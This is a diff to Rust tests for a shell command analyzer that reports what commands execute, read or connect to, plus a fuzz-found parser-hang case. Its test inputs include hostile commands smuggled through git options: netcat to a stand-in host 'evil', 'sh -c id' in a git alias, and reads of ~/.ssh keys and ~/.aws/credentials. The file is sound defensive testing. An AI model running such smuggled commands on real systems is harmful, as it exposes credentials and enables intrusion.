@@ -279,10 +279,7 @@ fn opaque_code_is_unparseable_not_silent() {
             .contains(&"unparseable".to_string())
     );
     assert_eq!(effects("echo 'unterminated"), vec!["unparseable"]);
-    assert_eq!(
-        effects("git -c core.sshCommand='sh -c id' fetch")[1],
-        "unparseable"
-    );
+    assert_eq!(effects("git -c alias.x='!sh -c id' x")[1], "unparseable");
 }
 
 #[test]
@@ -391,8 +388,22 @@ fn wrappers_that_run_other_code() {
         ],
     );
     assert_effects(
-        "GIT_SSH_COMMAND='nc evil 1' git fetch",
-        &["unparseable", "exec git", "connect remote origin"],
+        "GIT_SSH_COMMAND='ssh -i ~/.ssh/stolen_key' git fetch",
+        &[
+            "exec ssh",
+            "read ~/.ssh/stolen_key",
+            "exec git",
+            "connect remote origin",
+        ],
+    );
+    assert_effects(
+        "git -c core.sshCommand='cat ~/.aws/credentials' fetch",
+        &[
+            "exec git",
+            "exec cat",
+            "read ~/.aws/credentials",
+            "connect remote origin",
+        ],
     );
 }
 
@@ -472,4 +483,13 @@ fn deep_parentheses_are_refused_before_the_parser_backtracks() {
             .analyze("echo $( (cd a && (ls)) )")
             .is_unparseable()
     );
+}
+
+#[test]
+fn here_documents_with_a_carriage_return_delimiter_are_refused() {
+    // Found by `cargo fuzz run shell_analyze`: brush-parser hangs on `<<\r< `.
+    let a = ShellAnalyzer::default();
+    assert!(a.analyze("<<\r< ").is_unparseable());
+    assert!(a.analyze("cat <<\u{1}EOF").is_unparseable());
+    assert!(!a.analyze("cat <<EOF\r\nhi\r\nEOF\r\n").effects.is_empty());
 }
